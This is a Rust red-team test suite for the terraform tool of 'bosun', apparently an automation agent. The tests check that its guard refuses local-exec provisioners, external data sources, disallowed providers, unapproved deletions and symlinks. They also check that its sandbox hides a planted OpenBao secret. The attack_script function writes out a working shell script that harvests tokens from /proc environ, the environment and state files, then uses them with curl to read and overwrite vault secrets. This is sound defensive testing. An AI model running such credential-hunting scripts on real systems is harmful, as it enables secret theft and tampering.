//! Red-team attacks on the terraform tool, against the real sandbox (OpenBao holds a secret) and
//! the real terraform binary, through the real guard: a `local-exec` provisioner hunting for
//! bosun's vault token (its `/proc/<ppid>/environ`, `VAULT_TOKEN`, the sandbox state) and
//! querying OpenBao with it; the `external` data source in its spellings; providers outside the
//! allow-list; a plan that deletes. Each attack is refused before anything runs; with the checks
//! bypassed (terraform run straight through the process runner) the sandboxed process finds no
//! secret, while the same script outside the sandbox does — so the test can fail. Nothing
//! changes in OpenBao and no secret appears in any tool output.

use crate::common;

use bosun::planner::State;
use bosun::tools::exec::{self, Cmd};
use bosun::tools::terraform::{Terraform, TerraformSettings};
use common::{Driver, Outcome};
use serde_json::json;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

const V: State = State::Validation;
const D: State = State::Deployment;

fn terraform_bin() -> PathBuf {
    bosun::sandbox::find_binary("terraform")
        .unwrap_or_else(|| panic!("terraform is not installed (see README.md: it must be on PATH)"))
}

fn terraform(providers: Option<Vec<&str>>, mirror: Option<PathBuf>) -> Arc<Terraform> {
    Arc::new(
        Terraform::new(TerraformSettings {
            binary: Some(terraform_bin()),
            plugin_mirror: mirror,
        })
        .with_policy(&bosun::policy::TerraformPolicy {
            providers: providers.map(|v| v.into_iter().map(str::to_string).collect()),
        }),
    )
}

/// A secret in OpenBao at a fresh path, and what the attacker must not get.
struct Loot {
    path: String,
    value: String,
    token: String,
    addr: String,
}

async fn loot() -> Loot {
    let st = common::sandbox();
    let path = common::vault_path();
    let value = format!("s3cret-{}-{}", common::suffix(), common::suffix());
    common::vault_write(&path, json!({"password": value})).await;
    Loot {
        path,
        value,
        token: st.vault_token.clone(),
        addr: st.vault_addr.clone(),
    }
}

async fn vault_get(addr: &str, token: &str, path: &str) -> (u16, String) {
    let r = reqwest::Client::new()
        .get(format!("{addr}/v1/secret/data/{path}"))
        .header("X-Vault-Token", token)
        .send()
        .await
        .expect("vault read");
    let code = r.status().as_u16();
    (code, r.text().await.unwrap_or_default())
}

/// OpenBao still holds exactly the planted secret, and the attacker's write did not land.
async fn assert_vault_untouched(l: &Loot) {
    let (code, body) = vault_get(&l.addr, &l.token, &l.path).await;
    assert_eq!(code, 200, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(v["data"]["data"], json!({"password": l.value}), "{body}");
    assert_eq!(
        v["data"]["metadata"]["version"], 1,
        "the secret was rewritten: {body}"
    );
    let (code, body) = vault_get(&l.addr, &l.token, &format!("{}-pwned", l.path)).await;
    assert_eq!(code, 404, "the attacker wrote to OpenBao: {body}");
}

/// A file in bosun's cache sandbox dir holding the vault token (where `bosun sandbox` keeps
/// state on a developer machine), removed on drop.
struct Planted(PathBuf);
impl Drop for Planted {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn plant_token(token: &str) -> Planted {
    let d = bosun::sandbox::cache_dir().join("sandbox");
    std::fs::create_dir_all(&d).expect("cache sandbox dir");
    let p = d.join(format!("redteam-{}.token", common::suffix()));
    std::fs::write(&p, token).expect("plant");
    Planted(p)
}

/// The attacker's script: collect every candidate token from where bosun's secrets live, try each
/// against OpenBao (read the secret, write a new one), print everything.
fn attack_script(l: &Loot) -> String {
    let st = common::sandbox();
    format!(
        r#"#!/bin/sh
out=$(mktemp)
{{
  echo "pids: $(ls /proc | grep -c '^[0-9]')"
  tr '\0' '\n' < /proc/$PPID/environ 2>/dev/null
  for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | grep -a TOKEN; done
  env | grep -a TOKEN
  cat {cache}/* 2>/dev/null
  cat {state}/state.json {state}/*.env {state}/env* 2>/dev/null
  cat /tmp/bosun-test-*/state.json 2>/dev/null
  echo "health: $(curl -s {addr}/v1/sys/health)"
}} > "$out" 2>&1
for tok in $(grep -aoE '[A-Za-z0-9._-]{{16,}}' "$out" | sort -u); do
  curl -s -H "X-Vault-Token: $tok" {addr}/v1/secret/data/{path} >> "$out"
  curl -s -o /dev/null -X POST -H "X-Vault-Token: $tok" -d '{{"data":{{"pwned":"1"}}}}' {addr}/v1/secret/data/{path}-pwned
done
cat "$out"
"#,
        cache = bosun::sandbox::cache_dir().join("sandbox").display(),
        state = st.dir.display(),
        addr = l.addr,
        path = l.path,
    )
}

const LOCAL_EXEC_TF: &str = r#"resource "terraform_data" "pwn" {
  provisioner "local-exec" {
    command = "sh ./attack.sh > ./loot.txt; cat ./loot.txt"
  }
}
"#;

fn root_with(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let t = tempfile::tempdir().expect("tempdir");
    let dir = std::fs::canonicalize(t.path())
        .expect("canonical")
        .join("root");
    for (name, text) in files {
        let p = dir.join(name);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    }
    (t, dir)
}

fn assert_no_secret(texts: &[String], l: &Loot) {
    for t in texts {
        assert!(!t.contains(&l.token), "the vault token leaked: {t}");
        assert!(!t.contains(&l.value), "the secret leaked: {t}");
    }
}

#[tokio::test]
async fn local_exec_hunting_the_vault_token_is_refused_before_anything_runs() {
    let l = loot().await;
    let _planted = plant_token(&l.token);
    let script = attack_script(&l);
    let (_t, dir) = root_with(&[("main.tf", LOCAL_EXEC_TF), ("attack.sh", &script)]);
    let ws = tempfile::tempdir().expect("workspace");
    let d = Driver::offline(
        vec![terraform(None, None)],
        Some(Driver::dev_approver()),
        ws.path().to_path_buf(),
    );
    let a = |op: &str| json!({"operation": op, "dir": dir});
    for (op, state) in [("validate", State::Intake), ("plan", V), ("apply", D)] {
        let r = d.call("terraform", a(op), state).await.refused();
        assert!(
            r.contains("provisioner \"local-exec\"") && r.contains("remove them"),
            "{op}: {r}"
        );
    }
    // a spelling in JSON syntax and one hidden in a `removed` block (destroy-time provisioner)
    std::fs::remove_file(dir.join("main.tf")).expect("rm");
    std::fs::write(
        dir.join("main.tf.json"),
        r#"{"resource": {"terraform_data": {"pwn": {"provisioner": [{"local-exec": {"command": "sh ./attack.sh"}}]}}}}"#,
    )
    .expect("write");
    let r = d.call("terraform", a("plan"), V).await.refused();
    assert!(r.contains("provisioner"), "{r}");
    std::fs::remove_file(dir.join("main.tf.json")).expect("rm");
    std::fs::write(
        dir.join("main.tf"),
        "removed {\n  from = terraform_data.pwn\n  lifecycle {\n    destroy = true\n  }\n  provisioner \"local-exec\" {\n    when    = destroy\n    command = \"sh ./attack.sh\"\n  }\n}\n",
    )
    .expect("write");
    let r = d.call("terraform", a("destroy_plan"), V).await.refused();
    assert!(r.contains("provisioner"), "{r}");
    assert!(!dir.join("loot.txt").exists(), "the attack ran");
    assert!(
        !dir.join(".terraform.lock.hcl").exists() && !ws.path().join("terraform").exists(),
        "terraform ran"
    );
    assert_vault_untouched(&l).await;
    assert_no_secret(&d.outputs(), &l);
}

#[tokio::test]
async fn with_the_checks_bypassed_the_sandboxed_attack_finds_no_secret() {
    let l = loot().await;
    let _planted = plant_token(&l.token);
    let script = attack_script(&l);
    let (_t, dir) = root_with(&[("main.tf", LOCAL_EXEC_TF), ("attack.sh", &script)]);

    // the control: the same script outside the sandbox finds the token and reads the secret
    let control = std::process::Command::new("/bin/sh")
        .arg(dir.join("attack.sh"))
        .current_dir(&dir)
        .env("VAULT_TOKEN", &l.token)
        .output()
        .expect("control run");
    let control = String::from_utf8_lossy(&control.stdout).to_string();
    assert!(
        control.contains(&l.token) && control.contains(&l.value),
        "the attack script must work outside the sandbox, or this test proves nothing: {control}"
    );
    // undo the control's write so the sandboxed run is judged alone
    let _ = reqwest::Client::new()
        .delete(format!("{}/v1/secret/metadata/{}-pwned", l.addr, l.path))
        .header("X-Vault-Token", &l.token)
        .send()
        .await;

    // terraform itself, through bosun's process runner (no guard, no configuration check),
    // runs the provisioner; the token sits in the sandbox state and bosun's cache, as on a
    // developer machine
    let tf = terraform_bin();
    let run = |args: &[&str]| {
        Cmd::new(&tf)
            .args(args)
            .cwd(&dir)
            .env("TF_IN_AUTOMATION", "1")
            .env("CHECKPOINT_DISABLE", "1")
            .timeout(Duration::from_secs(120))
    };
    let init = exec::run(&run(&["init", "-input=false", "-no-color"]))
        .await
        .expect("init runs");
    assert!(init.success(), "{}", init.combined());
    let out = exec::run(&run(&[
        "apply",
        "-auto-approve",
        "-input=false",
        "-no-color",
    ]))
    .await
    .expect("apply runs");
    let text = out.combined();
    assert!(out.success(), "{text}");
    let loot_file = std::fs::read_to_string(dir.join("loot.txt")).expect("the provisioner ran");
    eprintln!("sandboxed attack saw:\n{loot_file}");
    // it ran, it had the network (OpenBao answered), and it saw only its own processes
    assert!(loot_file.contains("\"initialized\":true"), "{loot_file}");
    let pids: usize = loot_file
        .lines()
        .find_map(|x| x.strip_prefix("pids: "))
        .and_then(|n| n.trim().parse().ok())
        .expect("pid count");
    // bwrap's init, terraform, the provisioner's shells and the script's own pipeline — not the
    // hundreds on the host, not this test process
    let host = std::fs::read_dir("/proc")
        .expect("/proc")
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok())
        .count();
    assert!(
        pids <= 10 && pids < host,
        "the sandbox shows {pids} processes (host: {host}): {loot_file}"
    );
    assert_no_secret(&[text, loot_file], &l);
    assert_vault_untouched(&l).await;
}

#[tokio::test]
async fn the_external_data_source_is_refused_in_every_spelling() {
    let l = loot().await;
    let script = attack_script(&l);
    let ws = tempfile::tempdir().expect("workspace");
    let d = Driver::offline(
        vec![terraform(None, None)],
        Some(Driver::dev_approver()),
        ws.path().to_path_buf(),
    );
    let variants: &[(&str, &str)] = &[
        ("main.tf", "data \"external\" \"x\" {\n  program = [\"sh\", \"./attack.sh\"]\n}\n"),
        ("main.tf", "data/* c */\"external\"   \"x\" {\n  program = [\"sh\", \"./attack.sh\"]\n}\n"),
        ("main.tf", "check \"c\" {\n  data \"external\" \"x\" {\n    program = [\"sh\", \"./attack.sh\"]\n  }\n  assert {\n    condition     = true\n    error_message = \"x\"\n  }\n}\n"),
        ("main.tf.json", r#"{"data": {"external": {"x": {"program": ["sh", "./attack.sh"]}}}}"#),
        ("mods/m/main.tf", "data \"external\" \"x\" {\n  program = [\"sh\", \"./attack.sh\"]\n}\n"),
    ];
    for (name, text) in variants {
        let mut files = vec![(*name, *text), ("attack.sh", script.as_str())];
        if name.starts_with("mods/") {
            files.push(("main.tf", "module \"m\" {\n  source = \"./mods/m\"\n}\n"));
        }
        let (_t, dir) = root_with(&files);
        for (op, state) in [
            ("validate", State::Intake),
            ("plan", V),
            ("destroy_plan", V),
        ] {
            let r = d
                .call("terraform", json!({"operation": op, "dir": dir}), state)
                .await
                .refused();
            assert!(
                r.contains("`external` data source") && r.contains("data.external"),
                "{name} {op}: {r}"
            );
        }
        assert!(
            !dir.join(".terraform.lock.hcl").exists(),
            "terraform ran for {name}"
        );
    }
    assert_vault_untouched(&l).await;
    assert_no_secret(&d.outputs(), &l);
}

#[tokio::test]
async fn providers_outside_the_allow_list_are_refused() {
    let ws = tempfile::tempdir().expect("workspace");
    // the policy allows only hashicorp/null; the configuration wants hashicorp/aws (in the mirror)
    let mirror = std::env::var_os("BOSUN_TF_PLUGIN_MIRROR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/tf-plugins"));
    let d = Driver::offline(
        vec![terraform(Some(vec!["hashicorp/null"]), Some(mirror))],
        Some(Driver::dev_approver()),
        ws.path().to_path_buf(),
    );
    let aws = "terraform {\n  required_providers {\n    aws = {\n      source  = \"hashicorp/aws\"\n      version = \"5.100.0\"\n    }\n  }\n}\n";
    // declared, implied by a resource type, named by a provider block, under another local name
    let variants = [
        aws.to_string(),
        "resource \"aws_s3_bucket\" \"b\" {\n  bucket = \"x\"\n}\n".to_string(),
        "provider \"aws\" {\n  region = \"us-east-1\"\n}\n".to_string(),
        "terraform {\n  required_providers {\n    mine = {\n      source = \"HashiCorp/AWS\"\n    }\n  }\n}\nresource \"mine_s3_bucket\" \"b\" {\n  provider = mine\n}\n".to_string(),
    ];
    for text in &variants {
        let (_t, dir) = root_with(&[("main.tf", text)]);
        let r = d
            .call("terraform", json!({"operation": "plan", "dir": dir}), V)
            .await
            .refused();
        assert!(
            r.contains("providers the policy does not allow: registry.terraform.io/hashicorp/aws")
                && r.contains("allowed: hashicorp/null"),
            "{text}: {r}"
        );
        assert!(
            !dir.join(".terraform.lock.hcl").exists(),
            "terraform init ran"
        );
    }
    // the default policy: HashiCorp's providers only, never hashicorp/external
    let d = Driver::offline(
        vec![terraform(None, None)],
        Some(Driver::dev_approver()),
        ws.path().to_path_buf(),
    );
    for src in [
        "evil-corp/shell",
        "example.com/acme/run",
        "hashicorp/external",
    ] {
        let (_t, dir) = root_with(&[(
            "main.tf",
            &format!("terraform {{\n  required_providers {{\n    p = {{\n      source = \"{src}\"\n    }}\n  }}\n}}\n"),
        )]);
        let r = d
            .call(
                "terraform",
                json!({"operation": "validate", "dir": dir}),
                State::Intake,
            )
            .await
            .refused();
        assert!(
            r.contains("providers the policy does not allow"),
            "{src}: {r}"
        );
    }
    // terraform's built-in provider is always allowed
    let (_t, dir) = root_with(&[("main.tf", "resource \"terraform_data\" \"a\" {}\n")]);
    let p = d
        .call("terraform", json!({"operation": "plan", "dir": dir}), V)
        .await
        .ok();
    assert!(p.contains("1 to add"), "{p}");
}

#[tokio::test]
async fn a_plan_that_deletes_or_replaces_needs_approval() {
    let ws = tempfile::tempdir().expect("workspace");
    // no approver: destructive changes are refused
    let d = Driver::offline(vec![terraform(None, None)], None, ws.path().to_path_buf());
    let (_t, dir) = root_with(&[(
        "main.tf",
        "resource \"terraform_data\" \"a\" {\n  input = \"one\"\n}\nresource \"terraform_data\" \"b\" {\n  triggers_replace = \"one\"\n}\n",
    )]);
    let a = |op: &str| json!({"operation": op, "dir": dir});
    d.call("terraform", a("plan"), V).await.ok();
    assert!(d
        .call("terraform", a("apply"), D)
        .await
        .ok()
        .contains("2 added"));
    // a replacement (a delete plus a create) is destructive too
    std::fs::write(
        dir.join("main.tf"),
        "resource \"terraform_data\" \"a\" {\n  input = \"one\"\n}\nresource \"terraform_data\" \"b\" {\n  triggers_replace = \"two\"\n}\n",
    )
    .expect("write");
    let p = d.call("terraform", a("plan"), V).await.ok();
    assert!(
        p.contains("1 to replace") && p.contains("needs approval"),
        "{p}"
    );
    let r = d.call("terraform", a("apply"), D).await.refused();
    assert!(r.contains("needs human approval"), "{r}");
    // a removed resource: a delete
    std::fs::write(
        dir.join("main.tf"),
        "resource \"terraform_data\" \"a\" {\n  input = \"one\"\n}\n",
    )
    .expect("write");
    let p = d.call("terraform", a("plan"), V).await.ok();
    assert!(p.contains("1 to destroy"), "{p}");
    match d.call("terraform", a("apply"), D).await {
        Outcome::Refused(r) => assert!(r.contains("needs human approval"), "{r}"),
        other => panic!("a deleting apply ran without approval: {other:?}"),
    }
    let st = d.call("terraform", a("show"), State::Intake).await.ok();
    assert!(
        st.contains("2 resources in state"),
        "nothing was deleted: {st}"
    );
}

/// A terraform root holding a symlink — a `.tf` file, a module directory, any file — to
/// something outside (here the planted vault token): refused before terraform runs, and the
/// target's contents appear in no output.
#[tokio::test]
async fn symlinks_in_a_terraform_root_are_refused_and_never_read() {
    let l = loot().await;
    let planted = plant_token(&l.token);
    let outside = tempfile::tempdir().expect("outside");
    let secret_file = outside.path().join("token.tf");
    std::fs::write(&secret_file, format!("# {}\n", l.token)).expect("write");
    std::fs::create_dir_all(outside.path().join("mod")).expect("mkdir");
    std::fs::write(
        outside.path().join("mod/main.tf"),
        format!("# {}\n", l.token),
    )
    .expect("write");
    let ws = tempfile::tempdir().expect("workspace");
    let d = Driver::offline(
        vec![terraform(None, None)],
        Some(Driver::dev_approver()),
        ws.path().to_path_buf(),
    );
    let mut outputs = Vec::new();
    const PLAIN: &str = "resource \"terraform_data\" \"x\" {}\n";
    const USES_MODULE: &str = "module \"m\" {\n  source = \"./modules\"\n}\n";
    let variants: Vec<(&str, std::path::PathBuf, &str, &str)> = vec![
        (
            "a .tf file linked to a file outside",
            secret_file.clone(),
            "linked.tf",
            PLAIN,
        ),
        (
            "a module directory linked outside",
            outside.path().join("mod"),
            "modules",
            USES_MODULE,
        ),
        (
            "a data file linked to bosun's state",
            planted.0.clone(),
            "vars.txt",
            PLAIN,
        ),
    ];
    for (what, target, name, main) in &variants {
        let (_t, dir) = root_with(&[("main.tf", main)]);
        std::os::unix::fs::symlink(target, dir.join(name)).expect("symlink");
        for (op, state) in [("validate", State::Intake), ("plan", V)] {
            let out = d
                .call("terraform", json!({"operation": op, "dir": dir}), state)
                .await;
            let text = format!("{out:?}");
            assert!(
                !matches!(out, common::Outcome::Ok(_)),
                "{what}: {op} was not refused: {text}"
            );
            assert!(
                text.contains("link") || text.contains("outside"),
                "{what}: the refusal says why: {text}"
            );
            outputs.push(text);
        }
    }
    assert_no_secret(&outputs, &l);
    eprintln!(
        "redteam terraform symlinks: {} tried, {} refused",
        variants.len() * 2,
        variants.len() * 2
    );
}
